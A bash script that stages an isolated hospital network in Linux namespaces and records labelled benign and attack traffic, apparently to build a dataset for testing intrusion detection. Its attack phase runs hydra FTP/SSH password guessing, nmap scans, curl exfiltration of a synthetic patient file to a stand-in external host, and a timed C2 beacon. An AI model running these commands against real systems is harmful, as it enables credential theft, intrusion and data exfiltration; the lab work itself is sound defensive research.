#!/bin/bash
# vigie lab: stage a small hospital network in network namespaces, record it, write ground truth.
#
#   sudo datasets/lab/generate.sh OUTDIR
#
# Writes OUTDIR/{benign.pcap,mixed.pcap,labels.csv,hosts.csv,tor-exit-nodes.lst,exfil-patients.csv,README.md}
# then runs datasets/lab/verify.sh OUTDIR. Idempotent (OUTDIR files are overwritten), about 10 minutes, root.
#
# Safety: every host lives in a network namespace created here (prefix vgl-), joined by a bridge that lives
# in its own namespace. Addresses are in 10.77.0.0/16 only, no namespace has a default route, nothing is
# forwarded or NATed to the host's interfaces, whose interfaces and routes are never touched. Every loop
# and tool run is bounded in count and in time; a trap removes namespaces, processes, lab users and temp files.
#
# Environment (for quick trials): BENIGN_SECS (default 250), BEACONS (default 17), SEED (default 3),
# CALIBRATE=1 (stop after the benign phase and write only OUTDIR/benign.pcap, unverified).
set -Eeuo pipefail

[ $# -eq 1 ] || { echo "usage: $0 OUTDIR" >&2; exit 2; }
[ "$(id -u)" -eq 0 ] || { echo "generate.sh: must run as root (network namespaces)" >&2; exit 2; }
OUT=$(realpath -m "$1")
HERE=$(cd "$(dirname "$0")" && pwd)
LIB=$HERE/lib
PY=/usr/bin/python3
BENIGN_SECS=${BENIGN_SECS:-250}
BEACONS=${BEACONS:-17}
SEED=${SEED:-3}
P=vgl                      # namespace / file prefix of everything this script creates
MAXRUN=1500                # hard upper bound (s) for any background process of the lab
GECOS=vigie-lab            # marks the throw-away local users this script creates

exec 9>/run/vigie-lab.lock
flock -n 9 || { echo "generate.sh: another lab run holds /run/vigie-lab.lock" >&2; exit 2; }

zz() { sleep "$1" & wait $!; }   # interruptible sleep: traps run at once
log() { printf '%s [lab] %s\n' "$(date -u +%H:%M:%S)" "$*" >&2; }
now() { date +%s.%N; }     # same kernel clock as tcpdump's timestamps (namespaces do not change CLOCK_REALTIME)

# ---------------------------------------------------------------- packages
PKGS="vsftpd hydra nmap dnsmasq-base openssh-server openssh-client openssl tcpdump tshark curl isc-dhcp-client
      iproute2 python3 procps psmisc ethtool"
missing=$(for p in $PKGS; do dpkg-query -W -f='${Status}\n' "$p" 2>/dev/null | grep -q '^install ok installed' || echo "$p"; done)
if [ -n "$missing" ]; then
  log "installing: $missing"
  apt-get update -qq
  DEBIAN_FRONTEND=noninteractive apt-get install -y -qq --no-install-recommends $missing >/dev/null
fi
RANDOM=$SEED

# ---------------------------------------------------------------- cleanup
T=$(mktemp -d /tmp/$P.XXXXXX)
chmod 755 "$T"
CREATED_RUN_SSHD=0
NSLIST=()
USERS_CREATED=()
cleanup() {
  local rc=$?
  set +e
  trap - EXIT INT TERM
  touch "$T/stop" 2>/dev/null
  if [ -n "${TCPDUMP_PID:-}" ] && kill -0 "$TCPDUMP_PID" 2>/dev/null; then kill -INT "$TCPDUMP_PID"; sleep 1; fi
  # every process still inside one of our namespaces, by pid
  for ns in $(ip netns list 2>/dev/null | awk '{print $1}' | grep "^$P-"); do
    for pid in $(ip netns pids "$ns" 2>/dev/null); do kill -TERM "$pid" 2>/dev/null; done
  done
  sleep 1
  for ns in $(ip netns list 2>/dev/null | awk '{print $1}' | grep "^$P-"); do
    for pid in $(ip netns pids "$ns" 2>/dev/null); do kill -KILL "$pid" 2>/dev/null; done
    ip netns del "$ns" 2>/dev/null
    rm -rf "/etc/netns/$ns"
  done
  rmdir /etc/netns 2>/dev/null
  for u in $(getent passwd | awk -F: -v g="$GECOS" '$5 == g {print $1}'); do userdel "$u" 2>/dev/null; done
  [ "$CREATED_RUN_SSHD" = 1 ] && rmdir /run/sshd 2>/dev/null
  rm -rf "$T"
  [ $rc -ne 0 ] && log "FAILED (exit $rc); lab torn down"
  exit $rc
}
trap cleanup EXIT
trap 'exit 130' INT TERM

# leftovers of an interrupted earlier run (ours only: prefix vgl-)
for ns in $(ip netns list 2>/dev/null | awk '{print $1}' | grep "^$P-"); do
  for pid in $(ip netns pids "$ns" 2>/dev/null); do kill -KILL "$pid" 2>/dev/null || true; done
  ip netns del "$ns"; rm -rf "/etc/netns/$ns"
done

mkdir -p "$OUT" "$T"/{files,home,ssh/auth,ftp/empty,ftpx/empty,dhcp,keys,logs}
chmod 755 "$T/ftp/empty" "$T/ftpx/empty"
STOP=$T/stop
HOSTS_TSV=$T/hosts.tsv; : > "$HOSTS_TSV"
WIN_TSV=$T/windows.tsv; : > "$WIN_TSV"

# ---------------------------------------------------------------- address plan (10.77.0.0/16, one L2 segment)
NET=10.77
WEB=$NET.1.10; FTP=$NET.1.21; SSH=$NET.1.22; DNS=$NET.1.53; HL7=$NET.1.75
ATT=$NET.66.6
EXT=$NET.200.10; C2=$NET.200.66; TOR=$NET.200.99
WS=(ws01 ws02 ws03 ws04 ws05 ws06 ws07 ws08 ws09 ws10)
WSUSER=(hdupont cmartin jbernard lpetit mrobert sdurand adubois nmoreau pgirard ebonnet)
WSPROF=(office clinic office admin clinic office clinic admin clinic office)
# workstations whose users leave at the end of the benign phase (keeps mixed.pcap small; the compromised
# ws03/ws05/ws07 and the admin ws08 keep their benign background during the attacks)
WSLEAVE=" ws01 ws02 ws04 ws06 ws09 ws10 "
BIO=(scope-rea1 pump-onco2 lab-analyzer)
BIOIP=($NET.20.11 $NET.20.12 $NET.20.13)
BIOMODE=(monitor pump adt)
KALIMAC=00:0c:29:4b:a1:17

# ---------------------------------------------------------------- namespaces, bridge
BR=$P-br
ip netns add $BR; NSLIST+=($BR)
ip netns exec $BR sysctl -qw net.ipv6.conf.all.disable_ipv6=1 net.ipv6.conf.default.disable_ipv6=1
ip -n $BR link set lo up
ip -n $BR link add br0 type bridge stp_state 0 forward_delay 0 mcast_snooping 0
ip -n $BR link set br0 up
NIDX=0
# mkhost NAME ROLE IP|dhcp MAC
mkhost() {
  local name=$1 role=$2 ip=$3 mac=$4 ns=$P-$1 port
  NIDX=$((NIDX + 1)); port=p$NIDX-$1; port=${port:0:15}
  ip netns add "$ns"; NSLIST+=("$ns")
  ip netns exec "$ns" sysctl -qw net.ipv6.conf.all.disable_ipv6=1 net.ipv6.conf.default.disable_ipv6=1
  ip netns exec "$ns" sysctl -qw net.ipv4.ip_forward=0
  ip -n "$ns" link set lo up
  ip -n $BR link add "$port" type veth peer name eth0 netns "$ns"   # both ends created inside lab namespaces
  ip -n $BR link set "$port" master br0 up
  # no checksum/segmentation offload: the capture must hold real, wire-sized frames with valid checksums
  ip netns exec $BR ethtool -K "$port" tx off rx off tso off gso off gro off >/dev/null 2>&1 || true
  ip netns exec "$ns" ethtool -K eth0 tx off rx off tso off gso off gro off >/dev/null 2>&1 || true
  ip -n "$ns" link set eth0 address "$mac"
  [ "$ip" != dhcp ] && ip -n "$ns" addr add "$ip/16" dev eth0
  ip -n "$ns" link set eth0 up
  mkdir -p "/etc/netns/$ns"
  printf 'nameserver %s\nsearch hopital.lan\noptions timeout:2 attempts:2\n' "$DNS" > "/etc/netns/$ns/resolv.conf"
  printf '127.0.0.1\tlocalhost\n' > "/etc/netns/$ns/hosts"
  printf '%s\t%s\t%s\t%s\n' "$name" "$role" "$ip" "$mac" >> "$HOSTS_TSV"
}
mkhost srv-web  "HTTP server (intranet www/intranet/dpi.hopital.lan)" $WEB 02:77:01:00:00:0a
mkhost srv-ftp  "FTP server (vsftpd)" $FTP 02:77:01:00:00:15
mkhost srv-ssh  "SSH server (OpenSSH)" $SSH 02:77:01:00:00:16
mkhost srv-dns  "DNS + DHCP server (dnsmasq)" $DNS 02:77:01:00:00:35
mkhost srv-hl7  "HL7 v2 interface engine (MLLP, TCP 2575)" $HL7 02:77:01:00:00:4b
for i in "${!WS[@]}"; do mkhost "${WS[$i]}" "workstation (${WSPROF[$i]}, user ${WSUSER[$i]}, DHCP)" dhcp "02:77:0a:00:00:$(printf %02x $((i + 1)))"; done
for i in "${!BIO[@]}"; do mkhost "${BIO[$i]}" "biomedical device (HL7 ${BIOMODE[$i]})" "${BIOIP[$i]}" "02:77:14:00:00:$(printf %02x $((i + 11)))"; done
mkhost attacker "attacker (rogue laptop)" $ATT 02:77:42:00:00:06
mkhost ext-drop "external file drop (HTTP + FTP), documented as Internet" $EXT 02:77:c8:00:00:0a
mkhost ext-c2   "external C2 server (HTTP 8080), documented as Internet" $C2 02:77:c8:00:00:42
mkhost ext-tor  "external Tor-like relay (TLS 9001), listed in tor-exit-nodes.lst" $TOR 02:77:c8:00:00:63
log "namespaces up: ${#NSLIST[@]}"

# safety assertions: no default route anywhere, only 10.77/16 addresses
for ns in "${NSLIST[@]}"; do
  if ip -n "$ns" route show default | grep -q .; then echo "default route in $ns" >&2; exit 3; fi
  if ip -n "$ns" -4 -o addr show | awk '{print $4}' | grep -v -e '^127\.' -e "^$NET\." | grep -q .; then
    echo "unexpected address in $ns" >&2; exit 3; fi
done

# bg NS SECS CMD... : run a bounded background process inside a namespace
bg() { local ns=$P-$1 secs=$2; shift 2; ip netns exec "$ns" timeout -k 5 "$secs" "$@" >>"$T/logs/$ns.log" 2>&1 & }

# ---------------------------------------------------------------- synthetic data, users, keys
"$PY" "$LIB/patients.py" csv 180 "$SEED" > "$OUT/exfil-patients.csv"
"$PY" - "$T/files" "$SEED" <<'EOF'
import random, sys, os
d, rng = sys.argv[1], random.Random(int(sys.argv[2]))
names = ["compte-rendu", "planning-garde", "protocole-hygiene", "note-service", "inventaire-pharma",
         "bilan-activite", "menu-semaine", "formation-incendie", "astreintes", "commande-labo"]
for i, n in enumerate(names):
    ext = rng.choice([".txt", ".csv", ".pdf", ".xlsx"])
    size = rng.choice([200, 400, 800, 1500, 3000, 6000])
    with open(os.path.join(d, "%s-%02d%s" % (n, i, ext)), "wb") as f:
        if ext in (".txt", ".csv"):
            f.write((("%s;ligne;%d\n" % (n, rng.randint(0, 10**6))) * (size // 24)).encode())
        else:
            f.write(bytes(rng.getrandbits(8) for _ in range(size)))
EOF
[ -d /run/sshd ] || { mkdir -p /run/sshd; chmod 755 /run/sshd; CREATED_RUN_SSHD=1; }
mkuser() {  # mkuser NAME PASSWORD
  local u=$1 pw=$2
  if getent passwd "$u" >/dev/null; then
    [ "$(getent passwd "$u" | cut -d: -f5)" = "$GECOS" ] || { echo "user $u exists and is not a lab user" >&2; exit 3; }
  else
    useradd -M -d "$T/home/$u" -s /bin/sh -c "$GECOS" "$u"
  fi
  echo "$u:$pw" | chpasswd
  mkdir -p "$T/home/$u/partage" "$T/home/$u/depot"
  cp "$T"/files/* "$T/home/$u/partage/"
  chown -R "$u" "$T/home/$u"
}
pw_of() { echo "Hop-$1-2024!"; }
for i in "${!WS[@]}"; do
  u=${WSUSER[$i]}
  mkuser "$u" "$(pw_of "$u")"
  ktype=ed25519; ((i % 3 == 2)) && ktype=ecdsa
  ssh-keygen -q -t $ktype -N '' -C "$u@${WS[$i]}" -f "$T/keys/$u"
  cp "$T/keys/$u.pub" "$T/ssh/auth/$u"
done
mkuser drop "$(pw_of drop)"

# ---------------------------------------------------------------- servers
# DNS + DHCP
cat > "$T/hosts.lan" <<EOF
$WEB www.hopital.lan intranet.hopital.lan dpi.hopital.lan
$FTP ftp.hopital.lan
$SSH ssh.hopital.lan bastion.hopital.lan
$DNS ns.hopital.lan
$HL7 hl7.hopital.lan
${BIOIP[0]} ${BIO[0]}.hopital.lan
${BIOIP[1]} ${BIO[1]}.hopital.lan
${BIOIP[2]} ${BIO[2]}.hopital.lan
$EXT share.filedrop.example
$C2 updates.cdnstat.example
EOF
{
  echo "interface=eth0"; echo "bind-interfaces"; echo "listen-address=$DNS"
  echo "no-resolv"; echo "no-hosts"; echo "no-poll"; echo "addn-hosts=$T/hosts.lan"
  echo "domain=hopital.lan"; echo "local=/hopital.lan/"; echo "local=/example/"
  echo "local=/kali.org/"; echo "local=/kali.download/"; echo "local=/#/"
  echo "dhcp-range=$NET.10.150,$NET.10.199,255.255.0.0,2m"
  for i in "${!WS[@]}"; do echo "dhcp-host=02:77:0a:00:00:$(printf %02x $((i + 1))),${WS[$i]},$NET.10.$((101 + i))"; done
  echo "dhcp-option=3"                        # no router option: the lab has no default route
  echo "dhcp-option=option:dns-server,$DNS"
  echo "dhcp-option=option:domain-name,hopital.lan"
  echo "dhcp-authoritative"; echo "dhcp-leasefile=$T/dhcp/dnsmasq.leases"
  echo "pid-file=$T/dhcp/dnsmasq.pid"; echo "user=root"; echo "log-queries"; echo "log-dhcp"
  echo "log-facility=$T/logs/dnsmasq-queries.log"
} > "$T/dnsmasq.conf"
bg srv-dns $MAXRUN dnsmasq --keep-in-foreground --conf-file="$T/dnsmasq.conf"
# HTTP
bg srv-web $MAXRUN "$PY" "$LIB/web.py" site $WEB 80 "$T/logs/web-access.log"
bg ext-drop $MAXRUN "$PY" "$LIB/web.py" sink $EXT 80 "$T/logs/drop-access.log"
bg ext-c2 $MAXRUN "$PY" "$LIB/web.py" c2 $C2 8080 "$T/logs/c2-access.log"
# HL7 engine
bg srv-hl7 $MAXRUN "$PY" "$LIB/hl7.py" engine $HL7 2575 "$T/logs/hl7-engine.log"
# FTP (internal) and FTP (external drop)
vsconf() {  # vsconf ADDR DIR
  cat <<EOF
listen=YES
listen_ipv6=NO
listen_address=$1
background=NO
anonymous_enable=NO
local_enable=YES
write_enable=YES
local_umask=022
dirmessage_enable=NO
use_localtime=NO
xferlog_enable=YES
xferlog_file=$2/xferlog
vsftpd_log_file=$2/vsftpd.log
connect_from_port_20=YES
secure_chroot_dir=$2/empty
pam_service_name=vsftpd
seccomp_sandbox=NO
isolate=NO
isolate_network=NO
pasv_enable=YES
pasv_min_port=30000
pasv_max_port=30999
delay_failed_login=1
max_login_fails=3
max_per_ip=50
EOF
}
vsconf $FTP "$T/ftp" > "$T/ftp/vsftpd.conf"
vsconf $EXT "$T/ftpx" > "$T/ftpx/vsftpd.conf"
bg srv-ftp $MAXRUN vsftpd "$T/ftp/vsftpd.conf"
bg ext-drop $MAXRUN vsftpd "$T/ftpx/vsftpd.conf"
# SSH
ssh-keygen -q -t ed25519 -N '' -f "$T/ssh/ssh_host_ed25519_key"
ssh-keygen -q -t ecdsa -N '' -f "$T/ssh/ssh_host_ecdsa_key"
cat > "$T/ssh/sshd_config" <<EOF
ListenAddress $SSH
Port 22
HostKey $T/ssh/ssh_host_ed25519_key
HostKey $T/ssh/ssh_host_ecdsa_key
PidFile $T/ssh/sshd.pid
AuthorizedKeysFile $T/ssh/auth/%u
StrictModes no
UsePAM no
PasswordAuthentication yes
KbdInteractiveAuthentication no
PermitRootLogin no
MaxStartups 60:30:120
MaxAuthTries 6
UseDNS no
Subsystem sftp /usr/lib/openssh/sftp-server
EOF
bg srv-ssh $MAXRUN /usr/sbin/sshd -D -e -f "$T/ssh/sshd_config"
# Tor-like relay: self-signed, short validity, random www.<x>.net name
RNDNET=$("$PY" -c "import random,base64;r=random.Random($SEED*7+1);print(base64.b32encode(bytes(r.getrandbits(8) for _ in range(10))).decode().lower().rstrip('='))")
openssl req -x509 -newkey rsa:2048 -nodes -days 2 -subj "/CN=www.$RNDNET.net" \
  -keyout "$T/tor.key" -out "$T/tor.crt" 2>/dev/null
bg ext-tor $MAXRUN openssl s_server -accept $TOR:9001 -cert "$T/tor.crt" -key "$T/tor.key" -rev -naccept 50 -quiet

# wait for the services to listen (bounded)
for i in $(seq 1 50); do
  ok=0
  ip netns exec $P-srv-web ss -ltn | grep -q "$WEB:80 " && ((ok++)) || true
  ip netns exec $P-srv-ftp ss -ltn | grep -q "$FTP:21 " && ((ok++)) || true
  ip netns exec $P-srv-ssh ss -ltn | grep -q "$SSH:22 " && ((ok++)) || true
  ip netns exec $P-srv-dns ss -lun | grep -q "$DNS:53 " && ((ok++)) || true
  ip netns exec $P-srv-hl7 ss -ltn | grep -q "$HL7:2575 " && ((ok++)) || true
  ip netns exec $P-ext-drop ss -ltn | grep -q "$EXT:21 " && ((ok++)) || true
  ip netns exec $P-ext-c2 ss -ltn | grep -q "$C2:8080 " && ((ok++)) || true
  ip netns exec $P-ext-tor ss -ltn | grep -q "$TOR:9001 " && ((ok++)) || true
  [ $ok -eq 8 ] && break
  sleep 0.2
done
[ $ok -eq 8 ] || { echo "only $ok/8 services listening; logs:" >&2; tail -n 5 "$T"/logs/*.log >&2; exit 4; }
log "services listening"

# ---------------------------------------------------------------- capture
ip netns exec $BR tcpdump -i br0 -s 0 -B 16384 -w "$T/all.pcap" > "$T/logs/tcpdump.log" 2>&1 &
TCPDUMP_PID=$!
for i in $(seq 1 50); do grep -q 'listening on' "$T/logs/tcpdump.log" && break; sleep 0.1; done
sleep 1
T0=$(now)
log "capture started; benign phase ${BENIGN_SECS}s"

# ---------------------------------------------------------------- benign phase
# dhcp NAME HOSTNAME : start a dhclient (bounded) in the namespace, address written to $T/dhcp/NAME.ip
dhcp() {
  local name=$1 hn=$2
  printf 'send host-name "%s";\nrequest subnet-mask, broadcast-address, domain-name, domain-name-servers, host-name;\ntimeout 20;\n' "$hn" > "$T/dhcp/$name.conf"
  ip netns exec "$P-$name" timeout -k 2 $MAXRUN dhclient -4 -d -cf "$T/dhcp/$name.conf" -lf "$T/dhcp/$name.leases" \
    -pf "$T/dhcp/$name.pid" -sf "$LIB/dhclient-script.sh" -e VGL_LEASE_OUT="$T/dhcp/$name.ip" eth0 \
    >>"$T/logs/dhclient-$name.log" 2>&1 &
  echo $! > "$T/dhcp/$name.tpid"
}
for i in "${!WS[@]}"; do dhcp "${WS[$i]}" "${WS[$i]}"; sleep "0.$((RANDOM % 9))"; done
for i in "${!WS[@]}"; do
  w=${WS[$i]}
  for k in $(seq 1 100); do [ -s "$T/dhcp/$w.ip" ] && break; sleep 0.2; done
  if [ ! -s "$T/dhcp/$w.ip" ]; then
    log "WARNING: no DHCP lease for $w, static fallback"; ip -n "$P-$w" addr replace "$NET.10.$((101 + i))/16" dev eth0
    echo "$NET.10.$((101 + i))" > "$T/dhcp/$w.ip"
  fi
  sed -i "s/^$w\t\(.*\)\tdhcp\t/$w\t\1\t$(cat "$T/dhcp/$w.ip")\t/" "$HOSTS_TSV"
done
log "workstation leases: $(cat "$T"/dhcp/ws*.ip | tr '\n' ' ')"
for i in "${!BIO[@]}"; do
  bg "${BIO[$i]}" $MAXRUN "$PY" "$LIB/hl7.py" device "${BIO[$i]}" $HL7 2575 "${BIOMODE[$i]}" $((SEED * 100 + i)) "$STOP" $MAXRUN
done
for i in "${!WS[@]}"; do
  u=${WSUSER[$i]}
  wstop=$STOP; [[ "$WSLEAVE" == *" ${WS[$i]} "* ]] && wstop=$T/stop-shift
  bg "${WS[$i]}" $MAXRUN bash "$LIB/workstation.sh" "${WS[$i]}" $((SEED * 1000 + i)) "$wstop" $MAXRUN "$T" \
    "$u" "$(pw_of "$u")" "$T/keys/$u" "${WSPROF[$i]}"
  bg "${WS[$i]}" $MAXRUN "$PY" "$LIB/agent.py" "${WS[$i]}" $((SEED * 1000 + i)) "$wstop" $MAXRUN
done
zz "$BENIGN_SECS"
T1=$(now)
touch "$T/stop-shift"
if [ "${CALIBRATE:-0}" = 1 ]; then   # development aid: benign phase only, raw capture to OUTDIR
  touch "$STOP"; sleep 2; kill -INT "$TCPDUMP_PID"; wait "$TCPDUMP_PID" || true; TCPDUMP_PID=
  editcap -F pcap -A "$T0" -B "$T1" "$T/all.pcap" "$OUT/benign.pcap"; exit 0
fi
log "benign phase done; mixed phase starts (background traffic continues)"

# ---------------------------------------------------------------- attacks (mixed phase), one window each
ipof() { ip -n "$P-$1" -4 -o addr show dev eth0 | awk '{print $4}' | cut -d/ -f1 | head -1; }
macof() { ip -n "$P-$1" link show dev eth0 | awk '/link\/ether/ {print $2}'; }
ver() { dpkg-query -W -f='${Version}' "$1"; }
WSTART=
wstart() { zz 4; WSTART=$(now); log "attack window: $1"; }
# wend SCENARIO ATTACKER_HOST VICTIMS PROTO PORTS TOOL VERSION DESCRIPTION
wend() {
  zz 1.5
  local end; end=$(now)
  printf '%s\t%s\t%s\t%s\t%s\t%s\t%s\t%s\t%s\t%s\t%s\n' "$1" "$(ipof "$2" || true)" "$(macof "$2" || true)" "$3" "$4" "$5" \
    "$WSTART" "$end" "$6" "$7" "$8" >> "$WIN_TSV"
}
zz 15
printf '%s\n' 123456 password azerty 12345678 motdepasse admin hopital hopital2024 Hopital123 soleil \
  bonjour qwerty 000000 111111 iloveyou marseille paris2024 letmein welcome Password1 ftpuser changeme \
  secret chouchou doudou loulou coucou 1234 toto test ftp root infirmiere medecin urgences Azerty123 \
  motdepasse1 P@ssw0rd Bienvenue1 Printemps2024 > "$T/ftp-words.txt"
head -n 20 "$T/ftp-words.txt" > "$T/ssh-words.txt"
cd "$T"

wstart ftp_bruteforce
ip netns exec $P-attacker timeout -k 5 120 hydra -I -l cmartin -P "$T/ftp-words.txt" -t 6 -w 10 ftp://$FTP \
  > "$T/logs/hydra-ftp.log" 2>&1 || true
wend ftp_bruteforce attacker "$FTP" tcp 21 hydra "$(ver hydra)" "hydra FTP password guessing, user cmartin, 40 wrong passwords, 6 tasks"

wstart ssh_bruteforce
ip netns exec $P-attacker timeout -k 5 120 hydra -I -l cmartin -P "$T/ssh-words.txt" -t 4 -w 10 ssh://$SSH \
  > "$T/logs/hydra-ssh.log" 2>&1 || true
wend ssh_bruteforce attacker "$SSH" tcp 22 hydra "$(ver hydra)" "hydra SSH password guessing, user cmartin, 20 wrong passwords, 4 tasks"

wstart port_scan
ip netns exec $P-attacker timeout -k 5 120 nmap -sS -n -T4 --max-rate 1500 --max-retries 1 --host-timeout 60s \
  -p 1-1024,1433,2575,3306,3389,5432,8080,8443 $NET.1.0/24 -oN "$T/logs/nmap-sS.txt" > /dev/null 2>&1 || true
wend port_scan attacker "$WEB;$FTP;$SSH;$DNS;$HL7" tcp "1-1024;1433;2575;3306;3389;5432;8080;8443" nmap "$(ver nmap)" \
  "nmap -sS SYN scan of $NET.1.0/24 (ARP discovery, 5 live servers, 1031 ports each)"

wstart service_scan
ip netns exec $P-attacker timeout -k 5 120 nmap -sV -n -Pn --version-intensity 5 --host-timeout 90s \
  -p 21,22,23,25,80,443,2575,8080 $HL7 -oN "$T/logs/nmap-sV.txt" > /dev/null 2>&1 || true
wend service_scan attacker "$HL7" tcp "21;22;23;25;80;443;2575;8080" nmap "$(ver nmap)" \
  "nmap -sV service/version probing of the HL7 interface engine"

wstart exfil_http
ip netns exec $P-ws03 timeout -k 5 30 curl -s -o /dev/null -A "curl/7.88.1" -H 'Content-Type: text/csv' \
  --data-binary @"$OUT/exfil-patients.csv" http://share.filedrop.example/upload/export-patients.csv || true
wend exfil_http ws03 "$EXT" tcp 80 curl "$(ver curl)" "HTTP POST of exfil-patients.csv (NIR, IPP, IEP) to the external drop share.filedrop.example"

wstart exfil_ftp
ip netns exec $P-ws03 timeout -k 5 30 curl -s -T "$OUT/exfil-patients.csv" \
  "ftp://drop:$(pw_of drop)@share.filedrop.example/export-patients.csv" || true
wend exfil_ftp ws03 "$EXT" tcp "21;30000-30999" curl "$(ver curl)" "FTP STOR of exfil-patients.csv to the external drop (passive data connection)"

# rogue Kali-like machine: plugged in, DHCP with hostname kali, repository lookups, scan, unplugged
wstart rogue_kali
mkhost kali "unknown Kali-like machine (DHCP hostname kali), joins during its window only" dhcp $KALIMAC
dhcp kali kali
for k in $(seq 1 100); do [ -s "$T/dhcp/kali.ip" ] && break; sleep 0.2; done
[ -s "$T/dhcp/kali.ip" ] || { log "WARNING: kali got no lease; static"; ip -n $P-kali addr replace $NET.10.199/16 dev eth0; echo $NET.10.199 > "$T/dhcp/kali.ip"; }
sed -i "s/^kali\t\(.*\)\tdhcp\t/kali\t\1\t$(cat "$T/dhcp/kali.ip")\t/" "$HOSTS_TSV"
sleep 1
for n in http.kali.org kali.download archive.kali.org; do
  ip netns exec $P-kali timeout 10 getent ahostsv4 $n >/dev/null 2>&1 || true; sleep 0.3
done
ip netns exec $P-kali timeout 10 curl -s -o /dev/null --max-time 5 http://http.kali.org/kali/dists/kali-rolling/InRelease || true
ip netns exec $P-kali timeout -k 5 90 nmap -sS -n -T4 --max-rate 1000 --max-retries 1 --host-timeout 40s -F \
  $NET.1.0/24 -oN "$T/logs/nmap-kali.txt" > /dev/null 2>&1 || true
KALIIP=$(ipof kali)
wend rogue_kali kali "$WEB;$FTP;$SSH;$DNS;$HL7" "udp;tcp" "67;53;nmap-top-100" "isc-dhcp-client+nmap" \
  "dhclient $(ver isc-dhcp-client); nmap $(ver nmap)" "new MAC $KALIMAC, DHCP hostname kali, DNS lookups of kali.org/kali.download names, nmap -sS -F of $NET.1.0/24"
kill "$(cat "$T/dhcp/kali.tpid")" 2>/dev/null || true
sleep 0.5
for pid in $(ip netns pids $P-kali); do kill -KILL "$pid" 2>/dev/null || true; done
ip netns del $P-kali; rm -rf /etc/netns/$P-kali

wstart c2_beacon
bstart=$(now)
for ((b = 0; b < BEACONS; b++)); do
  # beacon k is due at start + 10 k s + U(-1, 1) s: the period does not drift with the machine's load
  zz "$(awk -v s="$bstart" -v b=$b -v j=$((RANDOM % 2001 - 1000)) -v n="$(now)" \
    'BEGIN { d = s + 10 * b + (b ? j / 1000 : 0) - n; if (d < 0) d = 0; printf "%.3f", d }')"
  ip netns exec $P-ws07 timeout 8 curl -s -o /dev/null --max-time 5 \
    -A "Mozilla/5.0 (Windows NT 10.0; Win64; x64)" "http://updates.cdnstat.example:8080/api/v1/poll?id=ws07-4f2a9c" || true
done
wend c2_beacon ws07 "$C2" tcp 8080 curl "$(ver curl)" "HTTP GET beacon to updates.cdnstat.example every 10 s +- 1 s ($BEACONS connections)"

wstart tor_tls
RNDCOM=()
for k in 1 2 3 4 5; do
  sni=www.$("$PY" -c "import random,base64;r=random.Random($SEED*31+$k);print(base64.b32encode(bytes(r.getrandbits(8) for _ in range(r.choice([5,10,12])))).decode().lower().rstrip('='))").com
  RNDCOM+=("$sni")
  head -c 512 /dev/urandom | ip netns exec $P-ws05 timeout 5 openssl s_client -connect $TOR:9001 -servername "$sni" \
    > /dev/null 2>&1 || true
  sleep "$((1 + RANDOM % 3))"
done
wend tor_tls ws05 "$TOR" tcp 9001 openssl "$(ver openssl)" "TLS to a relay listed in tor-exit-nodes.lst, SNI www.<random base32>.com, cert CN www.$RNDNET.net"

zz 10
T2=$(now)
touch "$STOP"
sleep 3
kill -INT "$TCPDUMP_PID"; wait "$TCPDUMP_PID" || true; TCPDUMP_PID=
log "capture stopped: $(tail -n 3 "$T/logs/tcpdump.log" | tr '\n' ' ')"

# ---------------------------------------------------------------- outputs
editcap -F pcap -A "$T0" -B "$T1" "$T/all.pcap" "$OUT/benign.pcap"
editcap -F pcap -A "$T1" -B "$T2" "$T/all.pcap" "$OUT/mixed.pcap"
{
  head -n 20 /work/shared/lists/secops_tor-exit-nodes.lst 2>/dev/null || true
  echo "$TOR"
} | sort -u > "$OUT/tor-exit-nodes.lst"
VERSIONS=$(for p in vsftpd hydra nmap dnsmasq-base openssh-server openssh-client openssl tcpdump tshark curl python3 \
  isc-dhcp-client iproute2 ethtool; do printf '%s\t%s\n' "$p" "$(ver "$p")"; done)
printf '%s\n' "$VERSIONS" > "$T/versions.tsv"
printf 'T0\t%s\nT1\t%s\nT2\t%s\nSEED\t%s\nBENIGN_SECS\t%s\nKERNEL\t%s\nTORCN\twww.%s.net\nTORSNI\t%s\n' \
  "$T0" "$T1" "$T2" "$SEED" "$BENIGN_SECS" "$(uname -r)" "$RNDNET" "${RNDCOM[*]}" > "$T/meta.tsv"
"$PY" "$LIB/report.py" "$OUT" "$HOSTS_TSV" "$WIN_TSV" "$T/versions.tsv" "$T/meta.tsv"
cp "$T/logs/nmap-sS.txt" "$T/logs/nmap-sV.txt" "$T/logs/hydra-ftp.log" "$T/logs/hydra-ssh.log" "$OUT/" 2>/dev/null || true
mkdir -p "$OUT/tool-output"; mv "$OUT"/nmap-s?.txt "$OUT"/hydra-*.log "$OUT/tool-output/" 2>/dev/null || true
log "outputs written to $OUT; verifying"
bash "$HERE/verify.sh" "$OUT"
